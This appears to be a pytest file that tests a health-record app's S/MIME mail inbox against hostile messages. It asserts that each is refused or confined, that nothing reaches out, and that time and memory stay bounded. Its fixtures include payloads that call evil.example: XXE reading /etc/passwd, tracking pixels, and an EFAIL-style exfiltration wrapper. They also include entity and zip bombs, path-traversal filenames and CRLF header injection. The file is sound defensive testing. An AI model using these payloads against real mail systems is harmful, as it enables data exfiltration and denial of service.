"""Hostile mail through the whole way, from the door to the inbox: security.md e-K and its kin.

Signed by somebody the patient trusts, where that is what lets it come so far. Nothing breaks,
nothing is fetched, nothing but what a signature covers comes out, and time and memory stay bounded.
"""

import base64
import io
import resource
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from asn1crypto import cms

from phr import clock, net
from phr.http import Http
from phr.sharing import inbox
from phr.sharing.channels import message, mime, smime
from phr.store import arrived
from phr.store.models import LetterState
from tests.fixtures_mail import DOCTOR, OWN, Mailroom, opened_mailroom

SECONDS = 30.0  # of the processor for one mail, on a slow machine
MEGABYTES = 192  # more than before, the sending side of the test included


@pytest.fixture
def asked() -> list[str]:
    return []


@pytest.fixture
def room(tmp_path: Path, asked: list[str]) -> Iterator[Mailroom]:
    """A house whose every outgoing name is written down, and leads nowhere."""

    def resolver(host: str, port: int) -> net.Answers:
        asked.append(f"{host}:{port}")
        raise net.NotSent

    with opened_mailroom(tmp_path) as made:
        made.http.close()
        made.http = Http(net.Guard(resolver=resolver))
        yield made


def inner(*fields: tuple[str, str], body: bytes = b"Hello.\r\n", number: int = 1) -> bytes:
    own_id = message.message_id("theirs", number, "clinic.example")
    head = [*message.head(DOCTOR, OWN, own_id, clock.now()), ("Subject", "x")]
    return mime.entity([*head, *fields], body)


def mixed(*pieces: bytes, edge: str = "edge") -> bytes:
    whole = mime.multipart([], pieces, edge)
    return inner(("Content-Type", f'multipart/mixed; boundary="{edge}"'), body=whole[2:])


def attached(name: str, kind: str, content: bytes) -> bytes:
    shown = ("Content-Disposition", f"attachment; {mime.file_name(name)}")
    return mime.in_base64([("Content-Type", kind)], content, more=[shown])


def nested(levels: int) -> bytes:
    piece = mime.entity([("Content-Type", "text/plain")], b"x\r\n")
    for level in range(levels):
        edge = f"edge{level:04d}"
        kind = ("Content-Type", f'multipart/mixed; boundary="{edge}"')
        piece = mime.multipart([kind], [piece], edge)
    return piece


def packed(inside: bytes, name: str = "a.xml") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(name, inside)
    return file.getvalue()


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">'
    b'<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&x;&f;</title></ClinicalDocument>'
)
PIXEL = (
    b"<!doctype html><html><body><img src='http://evil.example/pixel'>"
    b"<link rel=stylesheet href='http://evil.example/s'><script>alert(1)</script>"
    b"<iframe src='http://evil.example/f'></iframe></body></html>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%b">' % (98 + n, (b"&%c;" % (97 + n)) * 10) for n in range(9))
    + b"]><ClinicalDocument xmlns='urn:hl7-org:v3'><title>&j;</title></ClinicalDocument>"
)
DEEP_JSON = b'{"resourceType":"Observation","x":' + b"[" * 50_000 + b"]" * 50_000 + b"}"
MANY_JSON = (
    b'{"resourceType":"Bundle","type":"collection","entry":['
    + b",".join(b'{"resource":{"resourceType":"Observation","id":"%d"}}' % n for n in range(5000))
    + b"]}"
)
LEAF = mime.entity([("Content-Type", "text/plain")], b"x\r\n")
UTF7 = b"<!doctype html><p>+ADw-img src=http://evil.example/7+AD4-</p>"

# What somebody trusted signs, sealed as it should be: name -> the message inside.
SIGNED: dict[str, Callable[[], bytes]] = {
    "multiparts a hundred deep": lambda: inner(
        ("Content-Type", 'multipart/mixed; boundary="edge0099"'),
        body=nested(100).partition(b"\r\n\r\n")[2],
    ),
    "ten thousand parts": lambda: mixed(*[LEAF] * 10_000),
    "a hundred thousand parts": lambda: mixed(*[b"\r\n"] * 100_000),
    "a web page in UTF-7": lambda: mixed(attached("a.html", "text/html; charset=utf-7", UTF7)),
    "words in UTF-7": lambda: inner(
        ("Content-Type", "text/plain; charset=utf-7"), body=b"+ADw-script+AD4-\r\n"
    ),
    "null bytes": lambda: mixed(mime.in_base64([("Content-Type", "text/plain")], b"a\0b\0")),
    "eight bits": lambda: mixed(
        mime.in_base64([("Content-Type", "text/plain")], bytes(range(128, 256)))
    ),
    "a message of PGP": lambda: inner(
        ("Content-Type", 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"'),
        body=b"--e\r\n\r\nVersion: 1\r\n--e\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--e--\r\n",
    ),
    "a hundred files": lambda: mixed(
        *[attached(f"{n}.txt", "text/plain", b"file %d" % n) for n in range(100)]
    ),
    "a remote picture": lambda: mixed(attached("a.html", "text/html", PIXEL)),
    "a web page called PDF": lambda: mixed(attached("a.pdf", "application/pdf", PIXEL)),
    "external entities": lambda: mixed(attached("a.xml", "application/xml", XXE)),
    "a billion laughs": lambda: mixed(attached("a.xml", "application/xml", LAUGHS)),
    "a packed bomb": lambda: mixed(
        attached("a.zip", "application/zip", packed(b"\0" * 50_000_000))
    ),
    "a path in a packed file": lambda: mixed(
        attached("a.zip", "application/zip", packed(b"x", "../../../etc/passwd"))
    ),
    "a path for a name": lambda: mixed(attached("../../../etc/passwd", "text/plain", b"x")),
    "line ends in a name": lambda: mixed(
        mime.entity([("Content-Type", "text/plain")], b"x").replace(
            b"\r\n\r\n",
            b"\r\nContent-Disposition: attachment; filename*=utf-8''a%0D%0ASet-Cookie:x\r\n\r\n",
        )
    ),
    "deep JSON": lambda: mixed(attached("a.json", "application/fhir+json", DEEP_JSON)),
    "five thousand records": lambda: mixed(attached("a.json", "application/fhir+json", MANY_JSON)),
    "zeros": lambda: mixed(attached("a.bin", "application/pdf", b"\0" * 3_000_000)),
    "a mail within the mail": lambda: mixed(
        mime.entity([("Content-Type", "message/rfc822")], inner(body=b"Inside.\r\n"))
    ),
    "an empty message": lambda: inner(body=b""),
    "header fields in words": lambda: inner(("Comments", "=?utf-8?b?" + "QUJD" * 2000 + "?=")),
    "an unknown character set": lambda: inner(("Content-Type", "text/plain; charset=x-no")),
    "a report of nothing": lambda: inner(
        ("Content-Type", 'multipart/report; report-type=disposition-notification; boundary="e"')
    ),
    "a request for everything": lambda: inner(
        ("Disposition-Notification-To", "everybody@evil.example"),
        ("Return-Receipt-To", "everybody@evil.example"),
        ("Reply-To", "mal@evil.example"),
    ),
}


def _bomb(room: Mailroom) -> bytes:
    """Compressed data (RFC 3274) where encrypted data should be."""
    unpacked = zlib.compress(b"\0" * 100_000_000)
    content = {
        "version": "v0",
        "compression_algorithm": {"algorithm": "zlib"},
        "encap_content_info": {"content_type": "data", "content": unpacked},
    }
    del room
    made = cms.ContentInfo(
        {"content_type": "compressed_data", "content": cms.CompressedData(content)}
    )
    kind = "application/pkcs7-mime; smime-type=compressed-data"
    return mime.in_base64([("Content-Type", kind)], made.dump())


def _unsigned_beside_signed(room: Mailroom) -> bytes:
    own = room.doctor.own
    signed = smime.sign(LEAF, certificate=own[0], key=own[1], now=clock.now())
    evil = mime.entity([("Content-Type", "text/plain")], b"Take double the dose.\r\n")
    kind = ("Content-Type", 'multipart/mixed; boundary="both"')
    return smime.encrypt(mime.multipart([kind], [signed, evil], "both"), [room.certificate()])


def _exfiltrating(room: Mailroom) -> bytes:
    """A page around a foreign sealed mail, which would send it home if it were drawn (EFAIL)."""
    sealed = room.written()
    begin = mime.entity([("Content-Type", "text/html")], b'<img src="http://evil.example/')
    end = mime.entity([("Content-Type", "text/html")], b'">')
    kind = ("Content-Type", 'multipart/mixed; boundary="three"')
    fields = [("From", DOCTOR), ("To", OWN), kind]
    return mime.multipart(fields, [begin, sealed, end], "three")


def _sealed_twice(room: Mailroom) -> bytes:
    return smime.encrypt(smime.encrypt(LEAF, [room.certificate()]), [room.certificate()])


def _elements(room: Mailroom) -> bytes:
    del room
    der = b"\x30\x80" + b"\x30\x00" * 2_000_000 + b"\0\0"
    return mime.in_base64([("Content-Type", "application/pkcs7-mime")], der)


def _signed_often(room: Mailroom) -> bytes:
    """A signature around a signature, a hundred times: the outermost is all that is looked at."""
    own, entity = room.doctor.own, LEAF
    for _ in range(100):
        entity = smime.sign(entity, certificate=own[0], key=own[1], now=clock.now())
    return smime.encrypt(entity, [room.certificate()])


def _within(room: Mailroom) -> bytes:
    """Indefinite lengths within one another without an end."""
    del room
    der = b"\x30\x80" * 200_000
    return mime.in_base64([("Content-Type", "application/pkcs7-mime")], der)


def _of_no_kind(room: Mailroom) -> bytes:
    """CMS whose content types are identifiers of nothing."""
    raw = room.written()
    head, _, body = raw.partition(b"\r\n\r\n")
    der = base64.b64decode(body).replace(
        bytes.fromhex("06092a864886f70d010703"), bytes.fromhex("06092a864886f70d01077f"), 1
    )
    del head
    return mime.in_base64([("Content-Type", "application/pkcs7-mime")], der)


# What comes as it is: name -> the mail, made in a house.
RAW: dict[str, Callable[[Mailroom], bytes]] = {
    "compressed data": _bomb,
    "an unsigned part beside a signed one": _unsigned_beside_signed,
    "a page around a sealed mail": _exfiltrating,
    "sealed twice": _sealed_twice,
    "two million elements": _elements,
    "signed a hundred times": _signed_often,
    "lengths without an end": _within,
    "an unknown kind of content": _of_no_kind,
    "a message of PGP in the open": lambda _: (
        b"Content-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n"
    ),
    "fifteen megabytes of nothing": lambda _: (
        b"Subject: x\r\n\r\n" + (b"A" * 76 + b"\r\n") * 190_000
    ),
    "ten thousand header fields": lambda _: b"X: y\r\n" * 10_000 + b"\r\n",
    "a header field of a megabyte": lambda _: b"X:" + b"\r\n y" * 300_000 + b"\r\n\r\nx\r\n",
    "no header field": lambda _: b"\r\nHello.\r\n",
    "bytes": lambda _: (bytes(range(1, 256)) + b"\r\n") * 100,
    "broken base64": lambda _: (
        b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b"@" * 400
    ),
    "half a key": lambda room: room.written()[:3000],
    "cut in its middle": lambda room: room.written()[:-1500],
}


@pytest.mark.parametrize("name", SIGNED)
def test_what_somebody_trusted_signs_is_still_judged(
    name: str, room: Mailroom, asked: list[str]
) -> None:
    began = _spent()
    room.post(room.sealed(SIGNED[name]()))
    room.look()
    line = room.line()
    assert line.state in {LetterState.TAKEN, LetterState.REFUSED}
    assert line.reason or line.arrivals or line.left_out
    held = room.arrivals()
    assert len(held) <= inbox.MOST_WAITING
    for each in held:
        assert not set("\r\n\0/") & set(each.name.replace("../../../etc/passwd", ""))
    assert not [each for each in asked if "evil" in each]
    _stayed_bounded(began)


@pytest.mark.parametrize("name", RAW)
def test_what_no_signature_covers_never_comes_in(
    name: str, room: Mailroom, asked: list[str]
) -> None:
    began = _spent()
    room.post(RAW[name](room))
    room.look()
    line = room.line()
    assert line.state == LetterState.REFUSED
    assert line.reason
    assert room.arrivals() == []
    assert line.answers == []
    assert asked == []
    assert arrived.waiting(room.home.house, room.patient) == []
    _stayed_bounded(began)


def test_a_web_page_is_never_let_into_the_inbox_as_another_kind(room: Mailroom) -> None:
    room.post(room.sealed(SIGNED["a web page called PDF"]()))
    room.look()
    assert all(each.media_type != "application/pdf" for each in room.arrivals())


def test_a_thousand_copies_of_a_mail_are_one(room: Mailroom) -> None:
    raw = room.written()
    for _ in range(40):
        room.post(raw)
    room.look()
    assert len(room.lines()) == 1
    assert len(room.arrivals()) == 1


def test_many_mails_of_one_sender_do_not_fill_the_inbox(
    room: Mailroom, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inbox, "MOST_WAITING", 4)
    for number in range(6):
        room.post(room.written(number=number, text=f"Number {number}."))
    room.look()
    assert len(room.arrivals()) == 4
    assert len(arrived.waiting(room.home.house, room.patient)) == 2


def test_an_answer_goes_to_the_envelope_s_sender_and_nobody_else(room: Mailroom) -> None:
    room.http.close()
    room.http = Http(net.Guard([f"127.0.0.1:{room.outpost.port}"]))
    room.post(room.sealed(SIGNED["a request for everything"]()))
    room.look()
    (raw,) = room.outpost.mails
    assert b"evil" not in base64.b64encode(raw)
    assert b"To: <pell@clinic.example>" in raw


def _spent() -> tuple[float, int]:
    """Return the processor's seconds so far and the memory now; its high mark begins anew."""
    Path("/proc/self/clear_refs").write_text("5")
    return resource.getrusage(resource.RUSAGE_SELF).ru_utime, _memory("VmRSS")


def _memory(name: str) -> int:
    """Return a line of kilobytes of /proc/self/status (proc_pid_status(5)) in bytes."""
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) << 10 for line in lines if line.startswith(f"{name}:"))


def _stayed_bounded(began: tuple[float, int]) -> None:
    seconds, memory = began
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - seconds < SECONDS
    assert _memory("VmHWM") - memory < MEGABYTES << 20
